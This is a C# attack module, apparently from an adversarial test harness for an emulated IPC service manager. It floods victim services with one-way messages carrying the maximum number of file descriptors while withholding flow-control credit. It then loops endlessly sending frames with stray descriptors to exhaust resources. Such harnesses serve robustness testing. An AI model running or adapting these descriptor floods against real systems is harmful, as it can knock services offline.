using LiteIpc;
using Samgr.Emulator.Protocol;

namespace Samgr.Attacks.Modules;

/// <summary>Messages with as many file descriptors as they may carry, to whoever takes them; and frames with descriptors that carry none.</summary>
internal static class DescriptorAttack
{
    private const int Rounds = 4;
    private const int Messages = 16;

    internal static void Run(Attacker attacker)
    {
        SvcIdentity[] victims = attacker.FindVictims();
        int handle = attacker.Handle;
        HostileLink link = attacker.TakeOver();
        link.GivesCredit = false;
        int file = Native.MakeFile("attack", 0);
        IpcIo content = new(1024, IpcLimits.MaxObjects);
        for (int i = 0; i < IpcLimits.MaxObjects; i++)
        {
            content.WriteFileDescriptor(file);
        }

        for (int round = 0; round < Rounds; round++)
        {
            for (int i = 0; i < Messages; i++)
            {
                // What it sends to itself it does not read.
                link.Post(handle, 0, HonestFunction.Echo, IpcFlag.OneWay, content, file, IpcLimits.MaxObjects);
                SvcIdentity victim = victims[i % victims.Length];
                link.Post(victim.Handle, victim.Token, HonestFunction.Echo, IpcFlag.OneWay, content, file, IpcLimits.MaxObjects);
            }

            attacker.Line.Count("messages with descriptors", 2 * Messages);
        }

        // This ends the process, and the next one goes on.
        attacker.Line.Count("frames with stray descriptors");
        attacker.Line.Flush();
        while (true)
        {
            link.Send(FrameOp.CheckHandle, 1, frame => frame.Int32(0), file: file, copies: Native.MostFiles);
        }
    }
}
